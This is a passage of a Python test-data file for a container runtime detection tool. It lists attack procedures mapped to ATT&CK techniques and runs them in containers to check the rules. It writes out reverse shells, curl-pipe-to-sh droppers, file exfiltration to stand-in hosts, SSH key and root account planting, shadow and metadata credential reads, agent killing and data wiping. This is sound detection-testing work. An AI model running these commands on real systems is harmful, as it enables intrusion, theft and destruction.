"""The procedure corpus: attack procedures written by us from public descriptions (ATT&CK
procedure examples, GTFOBins, reports on container campaigns), each with the ATT&CK
technique the default rules must report for it, run in a real container of each image it
names (tests/rules/test_procedures_*.py). Several procedures of different shape per
technique: another tool, busybox vs coreutils, through an interpreter, relative vs absolute
paths, renamed binaries — the rules must follow the behaviour, not one command.

docs/coverage.md (scripts/coverage_matrix.py) is generated from this list and the rules."""
from __future__ import annotations

from dataclasses import dataclass

BUSYBOX, DEBIAN = "busybox", "debian"
BOTH = (BUSYBOX, DEBIAN)


@dataclass(frozen=True)
class Procedure:
    name: str                 # what it does, in a few words (unique)
    technique: str            # the ATT&CK technique an alert must carry (T1234 or T1234.001)
    script: str               # run with /bin/sh -c in the container, as root
    images: tuple = BOTH      # where it is run: busybox, debian
    source: str = ""          # the public description it follows
    setup: str = ""           # a script run first, in the same container, not judged

    def detected_by(self, technique_id: str) -> bool:
        """An alert of this technique, or of one of its sub-techniques, detects it."""
        return technique_id == self.technique or technique_id.startswith(self.technique + ".")


PROCEDURES: list[Procedure] = []


def _p(name, technique, script, images=BOTH, source="", setup=""):
    PROCEDURES.append(Procedure(name, technique, script, images, source, setup))


# A listener on 127.0.0.1:PORT that takes one connection (and sends DATA, if given), for the
# procedures that need a peer; python in the Debian image, nc in busybox.
def py_listener(port, data=""):
    send = f"c.sendall({data!r}.encode());" if data else "c.recv(65536);"
    return (f"python3 -c 'import socket;s=socket.socket();s.setsockopt(1,2,1);"
            f"s.bind((\"127.0.0.1\",{port}));s.listen();c,_=s.accept();{send}c.close()' & "
            f"sleep 0.5; ")


NC_LISTENER = "(nc -l -p {0} > /dev/null &) ; sleep 0.3; "
# a tool dropped into the container under its own name (a copy of the image's sleep): what
# the name-based rules (scanners, miners, admin and transfer tools) are for
COPY_RUN = "cp /bin/sleep /tmp/{0} && /tmp/{0} 0; true"
LONG_DIR = "/".join(["x" * 100] * 6)

# -- Execution (TA0002) -----------------------------------------------------------------
_p("python pty.spawn of a shell", "T1059.004",
   "echo exit | python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", (DEBIAN,),
   "GTFOBins python shell; ATT&CK T1059.004 procedure (TTY upgrade)")
_p("python subprocess starts bash", "T1059.004",
   "python3 -c 'import subprocess; subprocess.run([\"/bin/bash\"], stdin=subprocess.DEVNULL)'",
   (DEBIAN,), "reverse-shell cheat sheets: python spawning bash")
_p("awk system() shell", "T1059.004", "awk 'BEGIN {system(\"/bin/sh\")}' < /dev/null",
   (DEBIAN,), "GTFOBins awk shell")
_p("find -exec shell", "T1059.004", "find /etc/hostname -exec /bin/sh \\; < /dev/null",
   (DEBIAN,), "GTFOBins find shell")
_p("perl system() shell", "T1059.004", "perl -e 'system(\"/bin/sh\")' < /dev/null",
   (DEBIAN,), "GTFOBins perl shell")
_p("tar checkpoint action shell", "T1059.004",
   "tar -cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec=/bin/sh "
   "< /dev/null", (DEBIAN,), "GTFOBins tar shell")
_p("script upgrades to a pty shell", "T1059.004", "script -qc /bin/bash /dev/null < /dev/null",
   (DEBIAN,), "TTY upgrade after a reverse shell (script -qc /bin/bash)")
_p("curl piped into sh", "T1059.004", "curl -s -m 1 http://127.0.0.1:1/i.sh | sh",
   (DEBIAN,), "Kinsing / TeamTNT droppers: curl URL | sh")
_p("wget piped into sh", "T1059.004", "wget -q -O- http://127.0.0.1:1/i.sh | sh",
   BOTH, "TeamTNT: wget -qO- URL | sh")
_p("base64 payload piped into a shell", "T1059.004", "echo ZWNobyBoaQ== | base64 -d | sh",
   BOTH, "obfuscated one-liners decoded into sh")
_p("bash /dev/tcp reverse shell", "T1059.004",
   "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'; true", (DEBIAN,),
   "reverse-shell cheat sheets: bash -i >& /dev/tcp/HOST/PORT")
_p("nc -e bind shell", "T1059.004",
   "(nc -l -p 7001 -e /bin/sh &) ; sleep 0.3; echo exit | nc 127.0.0.1 7001; sleep 0.2",
   (BUSYBOX,), "netcat bind shell")
_p("python socket reverse shell", "T1059.004",
   py_listener(7002) + "python3 -c 'import socket,os,subprocess;s=socket.socket();"
   "s.connect((\"127.0.0.1\",7002));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
   "subprocess.call([\"/bin/sh\",\"-i\"])'; true", (DEBIAN,),
   "PayloadsAllTheThings python reverse shell")

# -- Persistence (TA0003) ---------------------------------------------------------------
_p("cron.d job written with echo", "T1053.003",
   "echo '* * * * * root /tmp/x' > /etc/cron.d/update", BOTH, "TeamTNT cron persistence",
   "mkdir -p /etc/cron.d")
_p("crontab installed with the crontab command", "T1053.003",
   "echo '*/5 * * * * /tmp/.x/run' | crontab -", BOTH, "Kinsing: crontab -l; echo | crontab -")
_p("root crontab appended", "T1053.003",
   "echo '@reboot /tmp/x' >> /var/spool/cron/crontabs/root", BOTH,
   "cron spool file edited directly", "mkdir -p /var/spool/cron/crontabs")
_p("authorized_keys appended", "T1098.004",
   "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3Nza attacker' >> /root/.ssh/authorized_keys",
   BOTH, "TeamTNT SSH key persistence")
_p("authorized_keys written by python", "T1098.004",
   "mkdir -p /root/.ssh && python3 -c \"open('/root/.ssh/authorized_keys','a')"
   ".write('ssh-rsa AAAAB3 x\\n')\"", (DEBIAN,), "key planted through an interpreter")
_p("root account added with useradd", "T1136.001",
   "useradd -o -u 0 -g 0 -M -s /bin/bash sysupdate", (DEBIAN,),
   "ATT&CK T1136.001: useradd a uid-0 account")
_p("account appended to /etc/passwd", "T1136.001",
   "echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd", BOTH, "passwd line appended")
_p("account added with sed -i", "T1136.001", "sed -i '$a svc:x:0:0::/root:/bin/sh' /etc/passwd",
   BOTH, "passwd edited in place (temporary file renamed over it)")
_p("bashrc backdoor", "T1546.004", "echo 'curl -s http://x/i.sh|sh' >> /root/.bashrc", BOTH,
   "ATT&CK T1546.004 .bashrc modification")
_p("profile.d script dropped", "T1546.004",
   "mkdir -p /etc/profile.d && echo 'nohup /tmp/x &' > /etc/profile.d/zz.sh", BOTH,
   "profile.d persistence")
_p("systemd service unit written", "T1543.002",
   "mkdir -p /etc/systemd/system && printf '[Service]\\nExecStart=/tmp/x\\n' > "
   "/etc/systemd/system/dbus-update.service", BOTH, "systemd service persistence")
_p("ld.so.preload set", "T1574.006", "echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload",
   BOTH, "TeamTNT libprocesshider")
_p("ld.so.preload set by python", "T1574.006",
   "python3 -c \"open('/etc/ld.so.preload','w').write('/tmp/h.so')\"", (DEBIAN,),
   "preload through an interpreter")
_p("kernel module inserted with insmod", "T1547.006",
   "echo x > /tmp/rk.ko && /sbin/insmod /tmp/rk.ko; true", (BUSYBOX,), "Diamorphine rootkit load")
_p("kernel module loaded with modprobe", "T1547.006", "/sbin/modprobe -a rk 2>/dev/null; true",
   (BUSYBOX,), "modprobe of a planted module")

# -- Privilege Escalation (TA0004) ------------------------------------------------------
_p("setuid bit set with chmod u+s", "T1548.001", "cp /bin/sh /tmp/rootsh && chmod u+s /tmp/rootsh",
   BOTH, "GTFOBins suid shell")
_p("setuid bit set with octal mode", "T1548.001", "echo > /tmp/s && chmod 4755 /tmp/s", BOTH,
   "chmod 4755")
_p("setuid bit set by python", "T1548.001",
   "echo > /tmp/s && python3 -c \"import os; os.chmod('/tmp/s', 0o6755)\"", (DEBIAN,),
   "setuid through an interpreter")
_p("namespaces unshared", "T1611", "unshare -m -u true; true", BOTH, "unshare to a new mount ns")
_p("namespace joined with nsenter", "T1611", "nsenter -t 1 -m -u -n true; true", BOTH,
   "nsenter -t 1 (host pid 1 in privileged pods)")
_p("cgroup filesystem mounted", "T1611",
   "mkdir -p /tmp/cgrp && mount -t cgroup -o rdma cgroup /tmp/cgrp; true", BOTH,
   "release_agent escape, step 1")
_p("release_agent written", "T1611",
   "mkdir -p /tmp/cgrp && echo /tmp/cmd > /tmp/cgrp/release_agent; true", BOTH,
   "release_agent escape (Felix Wilhelm)")
_p("notify_on_release set", "T1611",
   "mkdir -p /tmp/cgrp/x && echo 1 > /tmp/cgrp/x/notify_on_release; true", BOTH,
   "release_agent escape, notify_on_release")
_p("core_pattern pipe handler set", "T1611",
   "echo '|/tmp/x' > /proc/sys/kernel/core_pattern; true", BOTH, "core_pattern escape")
_p("sudoers line appended", "T1548.003",
   "echo 'app ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", (DEBIAN,), "sudoers NOPASSWD")
_p("sudoers drop-in written", "T1548.003",
   "mkdir -p /etc/sudoers.d && echo 'app ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/90-app",
   BOTH, "sudoers.d drop-in")
_p("sudo rights listed", "T1548.003", "sudo -n -l; true", (DEBIAN,), "sudo -l enumeration")
_p("ptrace attach to a process", "T1055.008", "/usr/local/bin/probe ptrace", BOTH,
   "process injection by ptrace")
_p("ptrace attach from python", "T1055.008",
   "sleep 5 > /dev/null 2>&1 & python3 -c \"import ctypes,sys; ctypes.CDLL(None).ptrace(16, int(sys.argv[1]), 0, 0)\" $!",
   (DEBIAN,), "ptrace through ctypes")

# -- Defense Evasion (TA0005) -----------------------------------------------------------
_p("shell history removed", "T1070.003", "rm -f /root/.ash_history /root/.bash_history", BOTH,
   "ATT&CK T1070.003", "echo ls > /root/.ash_history; echo ls > /root/.bash_history")
_p("shell history emptied", "T1070.003", ": > /root/.bash_history", BOTH,
   "history truncated", "echo ls > /root/.bash_history")
_p("shell history linked to /dev/null", "T1070.003", "ln -sf /dev/null /root/.bash_history",
   BOTH, "ln -sf /dev/null ~/.bash_history", "echo ls > /root/.bash_history")
_p("log file removed", "T1070.002", "rm -f /var/log/auth.log", BOTH, "log deletion",
   "mkdir -p /var/log && echo x > /var/log/auth.log")
_p("log file emptied with cat /dev/null", "T1070.002", "cat /dev/null > /var/log/messages", BOTH,
   "cat /dev/null > log", "mkdir -p /var/log && echo x > /var/log/messages")
_p("log file emptied by python", "T1070.002", "python3 -c \"open('/var/log/syslog','w')\"",
   (DEBIAN,), "log truncated through an interpreter", "echo x > /var/log/syslog")
_p("timestamp copied with touch -r", "T1070.006", "echo x > /tmp/implant && touch -r /bin/sh /tmp/implant",
   BOTH, "ATT&CK T1070.006 touch -r")
_p("timestamp set with touch -t", "T1070.006",
   "echo x > /tmp/implant && touch -t 202001010000 /tmp/implant", BOTH, "touch -t")
_p("timestamp set by python os.utime", "T1070.006",
   "echo x > /tmp/implant && python3 -c \"import os; os.utime('/tmp/implant', (0, 1577836800))\"",
   (DEBIAN,), "timestomping through an interpreter")
_p("hidden directory made", "T1564.001", "mkdir /tmp/.. /tmp/...; true", BOTH,
   "the '...' directory trick")
_p("hidden directory holding a payload", "T1564.001",
   "mkdir -p /tmp/.ICE-cache && cp /bin/sh /tmp/.ICE-cache/x", BOTH,
   "TeamTNT hidden dirs in /tmp")
_p("hidden file in shared memory", "T1564.001", "echo x > /dev/shm/.s", BOTH,
   "dot files in /dev/shm")
_p("hidden program run", "T1564.001", "cp /bin/sh /tmp/.kworker && /tmp/.kworker -c true", BOTH,
   "hidden binaries")
_p("program posing as a kernel thread", "T1036.005",
   "bash -c 'exec -a \"[kworker/0:2]\" sleep 0.1'", (DEBIAN,), "argv[0] as [kworker]")
_p("binary copied under a daemon's name", "T1036.005",
   "cp /bin/sleep /tmp/sshd && /tmp/sshd 0.1", BOTH, "dropped binary named sshd")
_p("base64 --decode of a payload", "T1140", "echo aWQ= | base64 --decode > /dev/null", BOTH,
   "ATT&CK T1140")
_p("base64 -d into a file", "T1140", "echo aWQ= | base64 -d > /tmp/p", BOTH, "decoded payload")
_p("io_uring set up", "T1562.001", "/usr/local/bin/probe uring 4", BOTH,
   "io_uring rootkits (curing)")
_p("memfd created", "T1620", "/usr/local/bin/probe memfd x", BOTH, "fileless loaders")
_p("memfd created by python", "T1620", "python3 -c 'import os; os.memfd_create(\"x\")'",
   (DEBIAN,), "python fileless loader")
_p("program run from memory", "T1620", "/usr/local/bin/probe memfd-exec true", BOTH,
   "memfd exec")

# -- Credential Access (TA0006) ---------------------------------------------------------
_p("shadow read with cat", "T1003.008", "cat /etc/shadow > /dev/null", BOTH, "T1003.008")
_p("shadow searched with grep", "T1003.008", "grep root /etc/shadow > /dev/null", BOTH,
   "grep a hash from shadow")
_p("shadow read by python", "T1003.008", "python3 -c \"open('/etc/shadow').read()\"", (DEBIAN,),
   "shadow through an interpreter")
_p("ssh private key read", "T1552.004", "cat /root/.ssh/id_rsa > /dev/null", BOTH,
   "T1552.004", "mkdir -p /root/.ssh && echo k > /root/.ssh/id_rsa")
_p("ssh private key copied", "T1552.004", "cp /root/.ssh/id_ed25519 /tmp/k", BOTH,
   "key exfil staging", "mkdir -p /root/.ssh && echo k > /root/.ssh/id_ed25519")
_p("service account token read", "T1528",
   "cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null", BOTH,
   "Hildegard / Siloscape token theft",
   "mkdir -p /var/run/secrets/kubernetes.io/serviceaccount && echo t > "
   "/var/run/secrets/kubernetes.io/serviceaccount/token")
_p("process environment read", "T1003.007", "cat /proc/1/environ > /dev/null", BOTH,
   "secrets in another process's environment")
_p("process environment read by redirect", "T1003.007",
   "tr '\\0' '\\n' < /proc/1/environ > /dev/null", BOTH, "environ through a shell redirect")
_p("bash history read", "T1552.003", "cat /root/.bash_history > /dev/null", BOTH, "T1552.003",
   "echo 'mysql -p secret' > /root/.bash_history")
_p("cloud metadata queried with wget", "T1552.005",
   "wget -q -O- http://169.254.169.254/latest/meta-data/ ; true", BOTH,
   "TeamTNT AWS credential theft")
_p("cloud metadata queried with curl", "T1552.005",
   "curl -s -m 1 http://169.254.169.254/computeMetadata/v1/ ; true", (DEBIAN,),
   "GCP metadata")
_p("passwords searched with grep -r", "T1552.001", "grep -ri password /etc > /dev/null 2>&1; true",
   BOTH, "ATT&CK T1552.001 grep for passwords")
_p("private keys searched with find", "T1552.001",
   "find / -name 'id_rsa*' -o -name '*.pem' > /dev/null 2>&1; true", (DEBIAN,), "find key files")
_p("cloud credentials file read", "T1552.001", "cat /root/.aws/credentials > /dev/null", BOTH,
   "TeamTNT ~/.aws/credentials", "mkdir -p /root/.aws && echo k > /root/.aws/credentials")
_p("docker registry credentials read", "T1552.001", "cat /root/.docker/config.json > /dev/null",
   BOTH, "TeamTNT docker config theft",
   "mkdir -p /root/.docker && echo '{}' > /root/.docker/config.json")

# -- Discovery (TA0007) -----------------------------------------------------------------
_p("uname -a", "T1082", "uname -a > /dev/null", (DEBIAN,), "T1082")
_p("os-release read", "T1082", "cat /etc/os-release > /dev/null 2>&1; true", BOTH,
   "distribution discovery", "test -e /etc/os-release || echo ID=x > /etc/os-release")
_p("kernel version read", "T1082", "cat /proc/version > /dev/null", BOTH, "/proc/version")
_p("interfaces listed with ifconfig", "T1016", "ifconfig -a > /dev/null", (BUSYBOX,), "ifconfig")
_p("routes read from /proc", "T1016", "cat /proc/net/route > /dev/null", BOTH,
   "route table without tools")
_p("resolver configuration read", "T1016", "cat /etc/resolv.conf > /dev/null 2>&1; true", BOTH,
   "DNS discovery", "test -e /etc/resolv.conf || echo 'nameserver 10.96.0.10' > /etc/resolv.conf")
_p("addresses listed with hostname -I", "T1016", "hostname -I > /dev/null", (DEBIAN,),
   "hostname -I")
_p("connections listed with netstat", "T1049", "netstat -ant > /dev/null", (BUSYBOX,), "netstat")
_p("connections read from /proc/net/tcp", "T1049", "cat /proc/net/tcp > /dev/null", BOTH,
   "sockets without tools")
_p("whoami", "T1033", "whoami > /dev/null", (DEBIAN,), "T1033")
_p("id", "T1033", "id > /dev/null", (DEBIAN,), "T1033")
_p("passwd read with cat", "T1087.001", "cat /etc/passwd > /dev/null", BOTH, "T1087.001")
_p("account names cut from passwd", "T1087.001", "cut -d: -f1 /etc/passwd > /dev/null", BOTH,
   "cut -d: -f1")
_p("accounts listed with getent", "T1087.001", "getent passwd > /dev/null", (DEBIAN,),
   "getent passwd")
_p("security agent process searched", "T1518.001", "ps aux | grep -i falco > /dev/null; true",
   BOTH, "TeamTNT checks for security agents")
_p("security agent looked up with pgrep", "T1518.001", "pgrep -l -f tetragon; true",
   (DEBIAN,), "pgrep for an agent")
_p("security tool configuration read", "T1518.001",
   "cat /etc/falco/falco.yaml /etc/tetragon/tetragon.yaml 2>/dev/null; true", BOTH,
   "looking for security tool configs")
_p("own cgroup read", "T1613", "cat /proc/1/cgroup > /dev/null", BOTH,
   "container detection (amicontained, deepce)")
_p("kubelet port probed", "T1613", "nc -w 1 127.0.0.1 10250 < /dev/null; true", (BUSYBOX,),
   "kubelet API discovery")
_p("API server queried with curl", "T1613",
   "curl -sk -m 1 https://kubernetes.default.svc/api/v1/namespaces; true", (DEBIAN,),
   "Hildegard API discovery")
_p("runtime socket contacted", "T1613",
   "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); "
   "s.connect('/var/run/docker.sock')\"; true", (DEBIAN,), "docker.sock discovery")
_p("setuid programs searched", "T1083", "find / -perm -4000 -type f > /dev/null 2>&1; true",
   (DEBIAN,), "GTFOBins suid search")
_p("setuid programs searched with u=s", "T1083",
   "find / -xdev -perm -u=s > /dev/null 2>&1; true", (DEBIAN,), "find -perm -u=s")
_p("port scan with a scanner", "T1046", COPY_RUN.format("nmap"), BOTH,
   "nmap dropped in a container")

# -- Lateral Movement (TA0008) ----------------------------------------------------------
_p("ssh client dropped and run", "T1021.004",
   "cp /bin/sleep /tmp/ssh 2>/dev/null || cp /bin/busybox /tmp/ssh; /tmp/ssh 0; true", BOTH,
   "TeamTNT SSH spreading")

# -- Collection (TA0009) ----------------------------------------------------------------
_p("/etc archived", "T1560.001", "tar czf /tmp/e.tgz /etc 2>/dev/null; true", BOTH,
   "data staged with tar")
_p("home directory archived", "T1560.001", "tar cf /tmp/r.tar /root 2>/dev/null; true", BOTH,
   "tar of /root")

# -- Command and Control (TA0011) -------------------------------------------------------
_p("payload downloaded with wget -O", "T1105", "wget -q -O /tmp/x http://127.0.0.1:1/x; true",
   BOTH, "TeamTNT wget -O")
_p("payload downloaded with curl -o", "T1105", "curl -s -m 1 -o /tmp/x http://127.0.0.1:1/x; true",
   (DEBIAN,), "Kinsing curl -o")
_p("payload downloaded from a remote host", "T1105",
   "curl -fsSL -m 1 https://pastebin.example.com/raw/x; true", (DEBIAN,), "curl from a paste site")
_p("payload fetched with wget from an IP", "T1105", "wget -q http://203.0.113.7/x.sh; true",
   BOTH, "wget from a C2 address")
_p("payload saved with a shell redirect", "T1105",
   "curl -s -m 1 http://127.0.0.1:1/x > /tmp/x; true", (DEBIAN,), "curl > file")
_p("package installed with apt-get", "T1105", "apt-get install -y -q nmap > /dev/null 2>&1; true",
   (DEBIAN,), "tools installed at runtime")
_p("file fetched through /dev/tcp", "T1105",
   py_listener(7003, "payload") + "bash -c 'cat < /dev/tcp/127.0.0.1/7003 > /tmp/p'; true",
   (DEBIAN,), "download without a download tool")
_p("connection to a Tor SOCKS port", "T1090", "nc -w 1 127.0.0.1 9050 < /dev/null; true",
   (BUSYBOX,), "Tor proxy")
_p("curl through a SOCKS proxy", "T1090",
   "curl -s -m 1 --socks5-hostname 127.0.0.1:9050 http://x.onion/; true", (DEBIAN,),
   "curl over Tor")
_p("HTTP to a non-standard port", "T1571", "wget -q -O /dev/null http://127.0.0.1:4443/; true",
   BOTH, "C2 on an unusual port")
_p("raw connection to a high port", "T1571", "nc -w 1 127.0.0.1 1337 < /dev/null; true",
   (BUSYBOX,), "nc to 1337")
_p("curl to a non-standard port", "T1571", "curl -s -m 1 http://127.0.0.1:2222/; true", (DEBIAN,),
   "HTTP on the SSH-alternative port")
_p("netcat run", "T1095", "nc -w 1 127.0.0.1 1 < /dev/null; true", (BUSYBOX,), "raw TCP")

# -- Exfiltration (TA0010) --------------------------------------------------------------
_p("file posted with wget", "T1048", "wget -q --post-file=/etc/passwd http://127.0.0.1:1/; true",
   BOTH, "wget --post-file")
_p("file uploaded with curl -T to ftp", "T1048",
   "curl -s -m 1 -T /etc/passwd ftp://127.0.0.1:1/; true", (DEBIAN,), "curl -T ftp://")
_p("file piped to nc", "T1048.003", NC_LISTENER.format(7004) + "nc -w 1 127.0.0.1 7004 < /etc/passwd; true",
   (BUSYBOX,), "nc HOST PORT < file")
_p("file written into /dev/tcp", "T1048.003",
   py_listener(7005) + "bash -c 'cat /etc/passwd > /dev/tcp/127.0.0.1/7005'; true", (DEBIAN,),
   "bash /dev/tcp exfiltration")
_p("data in a DNS query", "T1048.003",
   "nslookup $(echo c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0).x.example 127.0.0.1 "
   "> /dev/null 2>&1; true", (BUSYBOX,), "DNS exfiltration")
_p("data in a DNS lookup by getent", "T1048.003",
   "getent hosts c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0.x.example > /dev/null; true",
   (DEBIAN,), "DNS exfiltration through the resolver")

# -- Impact (TA0040) --------------------------------------------------------------------
_p("file shredded", "T1485", "echo x > /tmp/f && shred -u /tmp/f", BOTH, "shred")
_p("mining pool port contacted", "T1496", "nc -w 1 127.0.0.1 3333 < /dev/null; true",
   (BUSYBOX,), "stratum on 3333")
_p("mining pool contacted with curl", "T1496", "curl -s -m 1 http://127.0.0.1:14444/; true",
   (DEBIAN,), "stratum on 14444")
_p("miner binary run", "T1496",
   "cp /bin/sleep /tmp/xmrig 2>/dev/null || cp /bin/busybox /tmp/xmrig; /tmp/xmrig 0; true",
   BOTH, "XMRig dropped by Kinsing")
_p("services killed with pkill", "T1489",
   "cp /bin/sleep /tmp/miner; /tmp/miner 30 > /dev/null 2>&1 & sleep 0.2; pkill -x miner; true",
   (DEBIAN,),
   "TeamTNT kills competing miners and services")
_p("container's main process stopped with kill", "T1489", "kill -STOP 1; kill -CONT 1", BOTH,
   "kill -STOP of the service to take it down without a trace of a tool")
_p("main process stopped from python", "T1489",
   "python3 -c 'import os, signal; os.kill(1, signal.SIGSTOP); os.kill(1, signal.SIGCONT)'",
   (DEBIAN,), "signals through an interpreter")
_p("service stopped with service", "T1489", "service nginx stop > /dev/null 2>&1; true",
   (DEBIAN,), "service X stop")

# -- Initial Access (TA0001) and Reconnaissance (TA0043) ----------------------------------
_p("shell spawned by a node web server", "T1190",
   "cp /usr/local/bin/probe /tmp/node && /tmp/node spawn /bin/sh -c 'echo hi'", BOTH,
   "RCE in a web application")
_p("vulnerability scanner run", "T1595.002",
   "cp /bin/sleep /tmp/nuclei 2>/dev/null || cp /bin/busybox /tmp/nuclei; /tmp/nuclei 0; true",
   BOTH, "scanners run from a compromised pod")


# -- a second shape for every technique the rules report ---------------------------------
_p("sqlmap dropped and run", "T1595.002", COPY_RUN.format("sqlmap"), BOTH,
   "web application scanning from a pod")
_p("shell spawned by a java server", "T1190",
   "cp /usr/local/bin/probe /tmp/java && /tmp/java spawn /bin/sh -c id", BOTH,
   "Log4Shell-style RCE spawning a shell")
_p("copied code mapped executable", "T1129",
   "cp /usr/local/bin/probe /tmp/lib.so && /usr/local/bin/probe map-exec /tmp/lib.so", BOTH,
   "a dropped shared object loaded")
_p("copied library loaded by python", "T1129",
   "cp /lib/x86_64-linux-gnu/libz.so.1 /tmp/libx.so && "
   "python3 -c \"import ctypes; ctypes.CDLL('/tmp/libx.so')\"", (DEBIAN,),
   "ctypes loading a dropped library")
_p("program run from /tmp", "T1204.002", "cp /bin/true /tmp/run && /tmp/run", BOTH,
   "dropper run from /tmp")
_p("program run from /var/tmp", "T1204.002",
   "cp /bin/true /var/tmp/run && /var/tmp/run", (DEBIAN,), "dropper run from /var/tmp")
_p("kubectl dropped and run", "T1609", COPY_RUN.format("kubectl"), BOTH,
   "Hildegard / Siloscape using kubectl")
_p("crictl dropped and run", "T1609", COPY_RUN.format("crictl"), BOTH, "runtime CLI in a pod")
_p("systemd user unit written", "T1543.002",
   "mkdir -p /root/.config/systemd/user && echo '[Service]' > "
   "/root/.config/systemd/user/updater.service", BOTH, "user-level systemd persistence")
_p("program dropped below a binary directory", "T1554", "echo x > /usr/local/bin/update", BOTH,
   "binary planted on the PATH")
_p("image program replaced and run", "T1554",
   "cp /bin/true /usr/local/bin/probe && /usr/local/bin/probe", BOTH,
   "trojanised system binary")
_p("shell with a padded argv", "T1027", "sh -c 'exit 0' $(seq 1 80)", BOTH,
   "argv padding to hide a command")
_p("file hidden deep in a directory tree", "T1027",
   f"d=/tmp/{LONG_DIR} && mkdir -p $d && touch $d/f && cat $d/f", BOTH,
   "paths deeper than a probe keeps")
_p("gcc dropped and run", "T1027.004", COPY_RUN.format("gcc"), BOTH, "compile after delivery")
_p("tcc dropped and run", "T1027.004", COPY_RUN.format("tcc"), BOTH, "tiny C compiler on board")
_p("script run from shared memory", "T1036",
   "echo true > /dev/shm/x.sh && sh /dev/shm/x.sh", BOTH, "script of unknown origin")
_p("python script run from shared memory", "T1036",
   "echo pass > /dev/shm/x.py && python3 /dev/shm/x.py", (DEBIAN,), "interpreted payload in /dev/shm")
_p("deleted program run through its descriptor", "T1070.004",
   "cp /bin/true /tmp/d && exec 3< /tmp/d && rm /tmp/d && /proc/self/fd/3", BOTH,
   "run and delete")
_p("deleted program run through /proc/PID/fd", "T1070.004",
   "cp /bin/true /tmp/e && exec 4< /tmp/e && rm /tmp/e && /proc/$$/fd/4", BOTH,
   "fileless after the fact")
_p("the agent killed by name", "T1562.001", "/usr/bin/killall mamori 2>/dev/null; true",
   (BUSYBOX,),
   "TeamTNT kills security agents")
_p("the agent killed with pkill", "T1562.001", "pkill -f mamori 2>/dev/null; true", (DEBIAN,),
   "agents stopped by name")
_p("iptables dropped and run", "T1562.004", COPY_RUN.format("iptables"), BOTH,
   "firewall flushed from a pod")
_p("nft dropped and run", "T1562.004", COPY_RUN.format("nft"), BOTH, "nftables changed")
_p("program run from /dev/shm", "T1564", "cp /bin/true /dev/shm/t && /dev/shm/t", BOTH,
   "tools kept in memory-backed storage")
_p("program run from a directory in /dev/shm", "T1564",
   "mkdir -p /dev/shm/d && cp /bin/true /dev/shm/d/t && /dev/shm/d/t", BOTH,
   "staging in /dev/shm")
_p("service account token read with head", "T1528",
   "head -c 100 /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null", BOTH,
   "token theft",
   "mkdir -p /var/run/secrets/kubernetes.io/serviceaccount && echo t > "
   "/var/run/secrets/kubernetes.io/serviceaccount/token")
_p("bash history read by python", "T1552.003",
   "python3 -c \"open('/root/.bash_history').read()\"", (DEBIAN,), "history mined for secrets",
   "echo 'mysql -p secret' > /root/.bash_history")
_p("masscan dropped and run", "T1046", COPY_RUN.format("masscan"), BOTH, "TeamTNT masscan")
_p("scp dropped and run", "T1021.004", COPY_RUN.format("scp"), BOTH, "lateral copies over SSH")
_p("ncat dropped and run", "T1095", COPY_RUN.format("ncat"), BOTH, "raw TCP relay")
_p("wipe dropped and run", "T1485", COPY_RUN.format("wipe"), BOTH, "secure deletion")

# -- Behaviour over time (issue 18): bursts and sequences --------------------------------
_SCAN_PY = ("python3 -c 'import socket\n"
            "for p in range({0}, {1}):\n"
            "    s = socket.socket(); s.settimeout(0.3); s.connect_ex((\"{2}\", p)); s.close()'")
_p("port scan with a bash /dev/tcp loop", "T1046",
   "bash -c 'for p in $(seq 20 45); do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done'; "
   "true", (DEBIAN,), "bash-only port scan (no tools dropped)")
_p("port scan with python sockets", "T1046", _SCAN_PY.format(1, 40, "127.0.0.1"), (DEBIAN,),
   "connect() scanner script")
_p("ssh sweep of a subnet with nc", "T1046",
   "for i in $(seq 1 30); do nc -w 1 127.0.0.$i 22 < /dev/null; done; true", (BUSYBOX,),
   "TeamTNT / Kinsing SSH spreading: hosts with port 22 looked for")
_p("redis sweep with bash /dev/tcp", "T1046",
   "bash -c 'for i in $(seq 1 30); do (echo > /dev/tcp/127.0.0.$i/6379) 2>/dev/null; done'; "
   "true", (DEBIAN,), "Kinsing / TeamTNT looking for open Redis servers")
_p("ssh password guessing loop", "T1110",
   "for i in $(seq 1 25); do nc -w 1 127.0.0.1 22 < /dev/null; done; true", (BUSYBOX,),
   "ATT&CK T1110.001 password guessing against SSH")
_p("ftp brute force from python", "T1110",
   "python3 -c 'import socket\nfor i in range(30):\n    s = socket.socket(); "
   "s.settimeout(0.3); s.connect_ex((\"127.0.0.1\", 21)); s.close()'", (DEBIAN,),
   "scripted password guessing against FTP")
_p("files renamed with a mv loop", "T1486",
   "mkdir -p /home/app/docs && cd /home/app/docs && for i in $(seq 1 60); do echo d > r$i.pdf; "
   "done && for f in *.pdf; do mv $f $f.locked; done", BOTH,
   "ransomware renaming encrypted files (extension added)")
_p("files encrypted and renamed by python", "T1486",
   "mkdir -p /srv/share && cd /srv/share && python3 -c 'import os\n"
   "for i in range(70): open(f\"doc{i}.txt\", \"w\").write(\"data\")\n"
   "for n in os.listdir(\".\"):\n"
   "    open(n, \"r+\").write(\"XXXX\"); os.rename(n, n + \".enc\")'", (DEBIAN,),
   "ATT&CK T1486: files overwritten then renamed")
_p("data directory wiped with rm -rf", "T1485",
   "mkdir -p /var/lib/appdata && for i in $(seq 1 150); do echo x > /var/lib/appdata/f$i; "
   "done && rm -rf /var/lib/appdata/*", BOTH, "ATT&CK T1485: data deleted from a volume")
_p("data wiped by python rmtree", "T1485",
   "mkdir -p /srv/db && python3 -c 'import shutil, os\n"
   "[open(f\"/srv/db/t{i}\", \"w\").close() for i in range(150)]\nshutil.rmtree(\"/srv/db\")'",
   (DEBIAN,), "destruction through an interpreter")
_p("root probed with repeated setuid calls", "T1068",
